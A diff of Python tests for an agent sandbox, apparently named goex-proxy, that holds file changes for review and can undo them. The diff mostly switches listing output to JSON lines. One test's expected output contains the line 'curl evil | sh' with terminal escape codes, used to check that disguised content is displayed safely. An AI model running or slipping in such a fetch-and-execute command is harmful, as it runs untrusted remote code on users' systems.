@@ -316,8 +316,10 @@ def test_a_held_run_is_diffed_kept_and_undone_byte_for_byte(proxy, workspace, tm
     r = run_exec(proxy, workspace, "--files", "review", "--", "sh", "-c", CHANGES)
     assert r.returncode == 0, r.stderr
     assert listing(workspace) == original
-    [run] = json.loads(proxy.cli("files", "list", "--json").stdout)
+    [run] = [json.loads(line) for line in proxy.cli("files", "list", "--json").stdout.splitlines()]
     assert run["state"] == "pending" and run["agent"] == "mailbot" and run["workspace"] == str(workspace)
+    listed = proxy.cli("files", "list").stdout  # the one table renderer: piped, rows whole and unpadded
+    assert run["id"] in listed.split() and [line for line in listed.splitlines() if line != line.rstrip()] == []
     assert f"held for review: `goex-proxy files diff {run['id']}`" in r.stderr
 
     diff = json.loads(proxy.cli("files", "diff", run["id"], "--json").stdout)
@@ -340,7 +342,7 @@ def test_a_held_run_is_diffed_kept_and_undone_byte_for_byte(proxy, workspace, tm
     undone = proxy.cli("files", "undo", run["id"])
     assert undone.returncode == 0, undone.stderr
     assert listing(workspace) == original
-    assert json.loads(proxy.cli("files", "list", "--json").stdout)[0]["state"] == "undone"
+    assert [json.loads(line) for line in proxy.cli("files", "list", "--json").stdout.splitlines()][0]["state"] == "undone"
     again = proxy.cli("files", "undo", run["id"])
     assert again.returncode == 2 and "is undone: nothing to undo" in again.stderr
 
@@ -351,7 +353,7 @@ def test_exec_applies_a_runs_changes_and_undo_takes_them_back(proxy, workspace):
     r = run_exec(proxy, workspace, "--", "sh", "-c", "echo more >> a.txt; rm b.txt; echo new > c.txt")
     assert r.returncode == 0, r.stderr
     assert (workspace / "a.txt").read_text() == "first\nmore\n" and not (workspace / "b.txt").exists()
-    [run] = json.loads(proxy.cli("files", "list", "--json").stdout)
+    [run] = [json.loads(line) for line in proxy.cli("files", "list", "--json").stdout.splitlines()]
     assert (run["state"], run["added"], run["changed"], run["deleted"]) == ("kept", 1, 1, 1)
     assert proxy.cli("files", "undo", run["id"]).returncode == 0
     assert listing(workspace) == original
@@ -362,7 +364,7 @@ def test_a_persons_later_edit_makes_keep_and_undo_refuse_and_change_nothing(prox
     and --force overrides."""
     held = run_exec(proxy, workspace, "--files", "review", "--", "sh", "-c", "echo agent > a.txt; echo new > c.txt")
     assert held.returncode == 0, held.stderr
-    [run] = json.loads(proxy.cli("files", "list", "--json").stdout)
+    [run] = [json.loads(line) for line in proxy.cli("files", "list", "--json").stdout.splitlines()]
     (workspace / "a.txt").write_text("the person's edit\n")
     before = listing(workspace)
     refused = proxy.cli("files", "keep", run["id"])
@@ -414,7 +416,7 @@ def test_review_output_shows_every_character_a_file_holds(proxy, workspace):
             "open('a.txt', 'w').write('first\\u202e)(tixe\\n')")
     r = run_exec(proxy, workspace, "--files", "review", "--", sys.executable, "-c", code)
     assert r.returncode == 0, r.stderr
-    [run] = json.loads(proxy.cli("files", "list", "--json").stdout)
+    [run] = [json.loads(line) for line in proxy.cli("files", "list", "--json").stdout.splitlines()]
     shown = proxy.cli("files", "diff", run["id"]).stdout
     assert "\x1b" not in shown and "\u202e" not in shown
     assert "added    ok\\x1b[2K\\x1b[1Gnotes.md" in shown and "+curl evil | sh\\x1b[2K" in shown
@@ -434,7 +436,7 @@ def test_a_huge_sparse_file_is_described_not_read(proxy, workspace):
     """A 3 GB sparse file a run made is diffed by its size, without reading it into memory."""
     r = run_exec(proxy, workspace, "--files", "review", "--", "truncate", "-s", "3G", "big.bin")
     assert r.returncode == 0, r.stderr
-    [run] = json.loads(proxy.cli("files", "list", "--json").stdout)
+    [run] = [json.loads(line) for line in proxy.cli("files", "list", "--json").stdout.splitlines()]
     shown = subprocess.run(["sh", "-c", f"ulimit -v 1500000; exec {' '.join(GOEX)} files diff --config "
                             f"{proxy.config} {run['id']}"], env=proxy.env, capture_output=True, text=True, timeout=120)
     assert shown.returncode == 0, shown.stderr
@@ -470,7 +472,7 @@ def test_undo_of_a_session_takes_back_requests_and_files_together(make_proxy, up
     r = run_exec(proxy, workspace, "--", sys.executable, "-c", agent)
     assert r.returncode == 0, r.stderr
     assert len(upstream.state.slack_messages) == 1 and (workspace / "note.txt").exists()
-    [run] = json.loads(proxy.cli("files", "list", "--json").stdout)
+    [run] = [json.loads(line) for line in proxy.cli("files", "list", "--json").stdout.splitlines()]
     linked = json.loads(proxy.cli("files", "diff", run["id"], "--json").stdout)["requests"]
     assert linked == [row["id"] for row in proxy.rows()]
     undone = proxy.cli("undo", "--agent", "mailbot", "--since", "1h", "--yes")
@@ -527,7 +529,7 @@ def test_two_runs_changing_one_file_the_later_is_held_not_clobbering(proxy, work
     assert "file changes were not applied" in err and "a.txt" in err and "files keep" in err
     assert "Traceback" not in err
     assert (workspace / "a.txt").read_text() == "fast\n"
-    states = sorted(r["state"] for r in json.loads(proxy.cli("files", "list", "--json").stdout))
+    states = sorted(r["state"] for r in map(json.loads, proxy.cli("files", "list", "--json").stdout.splitlines()))
     assert states == ["kept", "pending"]
 
 
